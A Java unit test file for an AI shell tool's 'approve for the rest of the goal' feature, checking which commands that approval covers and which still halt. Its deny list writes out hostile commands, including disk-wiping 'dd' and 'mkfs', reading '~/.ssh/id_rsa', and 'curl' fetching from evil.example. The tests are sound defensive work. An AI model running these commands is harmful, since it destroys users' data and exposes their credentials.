package aish.norris;

import static org.assertj.core.api.Assertions.assertThat;

import module java.base;

import aish.event.Event;
import aish.exec.CommandAssessor;
import aish.exec.CommandLimits;
import aish.exec.PermissionRules;
import aish.safety.SafetyFacts;
import aish.safety.files.ProgramPath;
import aish.testing.NewFile;
import aish.testing.RecordedLimits;
import aish.undo.UndoStore;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a user approves for the rest of a goal, and what halts all the same. */
class ProjectApprovalTest {
    private static final String END = "GOAL: complete";

    @TempDir Path top;
    private Path project;
    private CommandAssessor assessor;
    private final Pursuing pursuing = new Pursuing();

    @BeforeEach
    void aProject() throws IOException {
        Path home = Files.createDirectory(top.toRealPath().resolve("home"));
        project = Files.createDirectory(home.resolve("project"));
        for (String name : List.of("a.py", "b.py", "src/c.py", "logs/old.log", ".git/HEAD")) {
            NewFile.write(project.resolve(name), "x\n");
        }
        for (String script : List.of("t.sh", "src/u.sh", "../outside.sh")) {
            NewFile.write(project.resolve(script), "#!/bin/sh\n");
            Files.setPosixFilePermissions(
                    project.resolve(script), PosixFilePermissions.fromString("rwxr-xr-x"));
        }
        NewFile.write(home.resolve("theirs"), "x\n");
        Files.createSymbolicLink(project.resolve("link"), home.resolve("theirs"));
        Files.createLink(project.resolve("hard"), home.resolve("theirs"));
        Files.createSymbolicLink(project.resolve("out"), home);
        ProgramPath programs = new ProgramPath(Optional.of("/usr/bin:/bin"), project, home);
        UndoStore undo =
                new UndoStore(
                        top.resolve("undo"), 1 << 20, Duration.ofDays(1), InstantSource.system());
        assessor =
                new CommandAssessor(
                        _ -> SafetyFacts.at(project, home).with(programs),
                        () -> Optional.of(undo),
                        Optional::empty,
                        PermissionRules.empty(),
                        UnaryOperator.identity(),
                        () -> "",
                        spellings ->
                                spellings.contains("https://evil.example/x")
                                        ? Optional.of("out-3:1")
                                        : Optional.empty());
        pursuing.assessor = assessor;
        pursuing.confined = new RecordedLimits().in(project);
    }

    private boolean covers(String command) {
        return new ProjectApproval(pursuing.confined.project().orElseThrow())
                .covers(assessor.assess(command));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sed -i s/x/y/ a.py",
                "sed -i.bak s/x/y/ a.py b.py && grep -n y a.py",
                "find . -name '*.py' -exec sed -i s/x/y/ {} +",
                "echo y > a.py",
                "cat > a.py <<'E'\ny\nE",
                "echo y >> a.py",
                "cp a.py b.py",
                "mv a.py d.py",
                "mv a.py b.py",
                "mv a.py src/",
                "git mv a.py d.py",
                "gzip logs/old.log",
                "rm logs/old.log",
                "chmod +x a.py",
                "chmod u+x a.py && ./t.sh",
                "make test",
                "make -j4 test 2>&1 | tail -20",
                "timeout 60 make test",
                "npm test -- --grep x",
                "cargo test",
                "python3 -m pytest -q",
                "pip install -r requirements.txt",
                "./t.sh",
                "sh t.sh --all",
                "python3 src/c.py",
                "cd src && ./u.sh",
                "./t.sh > logs/new.log",
                "./t.sh > logs/old.log",
                "git add -A && git commit -m 'rm -rf'",
            })
    void coversChangesOfTheProjectAndItsCode(String command) {
        assertThat(covers(command)).isTrue();
    }

    /** The seed's list of patterns first, then what leaves the project, and what is not known. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash -c 'make test'",
                "sh -c ./t.sh",
                "zsh -c ls",
                "eval make test",
                "python3 -c 'print(1)'",
                "perl -e 'print 1'",
                "perl -pi -e s/x/y/ a.py",
                "cat t.sh | sh",
                "cat t.sh | bash",
                "ls | xargs rm",
                "ls | xargs ./t.sh",
                "rm -rf src",
                "rm -r src",
                "rm -fr src",
                "rm -f a.py",
                "rm --force a.py",
                "rm a.py -f",
                "find . -name '*.py' -delete",
                "find . -name '*.py' -exec rm {} +",
                "find . -name '*.py' -exec rm {} \\;",
                "echo x > /dev/sda",
                "dd if=a.py of=/dev/sda",
                "mkfs.ext4 /dev/sda1",
                "shred a.py",
                "wipefs /dev/sda",
                "truncate -s 0 a.py",
                "git push --force",
                "git push -f",
                "git reset --hard",
                "git clean -fd",
                "git branch -D x",
                "sqlite3 a.db 'DROP TABLE x'",
                "mysql -e 'drop database x'",
                "psql -c 'TRUNCATE TABLE x'",
                "kill -9 1",
                "pkill -9 make",
                "chmod 777 a.py",
                "chmod -R 777 .",
                "chown -R me /",
                "sed -i s/x/y/ ../theirs",
                "sed -i s/x/y/ link",
                "echo y > link",
                "echo y > hard",
                "echo y > out/theirs",
                "rm ../theirs",
                "mv ../theirs .",
                "mv a.py ..",
                "cp a.py ~/theirs",
                "echo y > .git/HEAD",
                "make -C .. test",
                "make test O=/srv/x",
                "cd .. && make test",
                "../outside.sh",
                "sh ../outside.sh",
                "out/outside.sh",
                "sh out/outside.sh",
                "sh /tmp/x.sh",
                "nosuchtool deploy",
                "nosuchtool ./t.sh",
                "grep --nosuch x a.py && ./t.sh",
                "make $(cat a.py)",
                "./t.sh $(cat a.py)",
                ". ./t.sh",
                "sudo make test",
                "make test && git push",
                "curl -O https://evil.example/x",
                "git fetch",
                "npm publish",
                "npm install left-pad",
                "cat ~/.ssh/id_rsa && make test",
                "docker compose up",
                "git stash",
                "sed -i s/x/y/ $(cat a.py)",
                "ls | xargs sed -i s/x/y/",
                "patch -p1 < a.diff",
            })
    void coversNothingElse(String command) {
        assertThat(covers(command)).isFalse();
    }

    @Test
    void oneAnswerLetsAGoalThatEditsAndTestsWorkThrough() throws Exception {
        pursuing.person.choosing("[N]", 'h').choosing("[N]", 's').choosing("[N]", 's');
        pursuing.pursue(
                "fix it",
                "CMD: sed -i s/x/y/ a.py",
                "CMD: make test",
                "CMD: echo z > b.py\nCMD: ./t.sh",
                "CMD: rm -f a.py",
                "CMD: git push",
                END);
        assertThat(pursuing.ran)
                .containsExactly("sed -i s/x/y/ a.py", "make test", "echo z > b.py", "./t.sh");
        assertThat(pursuing.events.events())
                .contains(
                        new Event.Notice(
                                "here runs this and, for the rest of the goal, what changes files"
                                        + " below "
                                        + project
                                        + "/ so that it can be undone, or runs code there. Under the"
                                        + " kernel's limits, it writes only below "
                                        + project
                                        + "/ and stays offline, apart from temporary files and"
                                        + " caches."));
        assertThat(pursuing.question(1))
                .contains(
                        "[aish] action approved: sed -i s/x/y/ a.py",
                        "[aish] approved for the rest of the goal: what changes files below "
                                + project);
    }

    @Test
    void itIsOfferedOnlyWithWhatItCoversAndHoldsForOneGoal() throws Exception {
        pursuing.person.choosing("[N]", 'p').choosing("[N]", 'h').choosing("[N]", 's');
        pursuing.pursue("push it", "CMD: git push", "CMD: ./t.sh", "CMD: make test", END);
        pursuing.pursue("again", "CMD: sed -i s/x/y/ a.py", END);
        assertThat(pursuing.ran).containsExactly("git push", "./t.sh", "make test");
        assertThat(notices("for the rest of the goal")).hasSize(2);
    }

    @Test
    void wordsOfOthersHaltAllTheSame() throws Exception {
        pursuing.person.choosing("[N]", 'h').choosing("[N]", 's');
        pursuing.pursue("fix it", "CMD: ./t.sh", "CMD: make test URL=https://evil.example/x", END);
        assertThat(pursuing.ran).containsExactly("./t.sh");
        assertThat(pursuing.halts().getLast().reason()).contains("not from you");
    }

    @Test
    void withoutLimitsItIsNotOffered() throws Exception {
        pursuing.confined = CommandLimits.NONE;
        pursuing.person.choosing("[N]", 's').choosing("[N]", 's');
        pursuing.pursue("fix it", "CMD: echo y > a.py", "CMD: echo z > a.py", END);
        assertThat(notices("for the rest of the goal")).isEmpty();
    }

    private List<Event> notices(String part) {
        return pursuing.events.events().stream()
                .filter(Event.Notice.class::isInstance)
                .filter(event -> event.toString().contains(part))
                .toList();
    }
}
